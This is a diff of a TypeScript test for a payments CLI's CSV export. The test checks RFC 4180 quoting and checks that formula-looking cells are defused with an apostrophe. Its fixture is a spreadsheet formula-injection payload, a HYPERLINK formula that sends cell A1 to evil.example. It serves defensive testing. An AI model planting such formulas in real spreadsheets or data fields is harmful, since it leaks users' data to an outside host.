@@ -152,13 +152,14 @@ describe.concurrent('in a pipe and for a spreadsheet', { timeout: SLOW }, () => 
 
   it('--format csv: RFC 4180 quoting, whole values, and no cell that a spreadsheet would run as a formula', async () => {
     const s = await withMerchant();
-    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    // (CONCAT, not "&": an oid holds no "&", it is sent back in signed callbacks.)
+    const formula = '=HYPERLINK(CONCAT("http://evil.example/?",A1),"click")';
     const id = await paidOrder(s, formula, '@SUM(1+1)', '10');
     await s.ok(['refund', '--id', id, '--amount', '1', '--remark', 'dented, "badly"', '--yes']);
     const [orders, refunds] = await Promise.all([s.ok(['--format', 'csv', 'order', 'list']), s.ok(['--format', 'csv', 'refund', 'list'])]);
     const orderLines = orders.split('\r\n');
     expect(orderLines[0]).toBe('id,oid,uid,amount,status,paid,refunded,expires');
-    expect(orderLines[1]).toBe(`${id},"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1+1),10,PAID,10,1,${orderLines[1]!.split(',').at(-1)}`);
+    expect(orderLines[1]).toBe(`${id},"'=HYPERLINK(CONCAT(""http://evil.example/?"",A1),""click"")",'@SUM(1+1),10,PAID,10,1,${orderLines[1]!.split(',').at(-1)}`);
     expect(orderLines[1]!.split(',').at(-1)).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
     expect(orders.endsWith('\r\n')).toBe(true);
     expect(refunds).toContain(',"dented, ""badly""",');
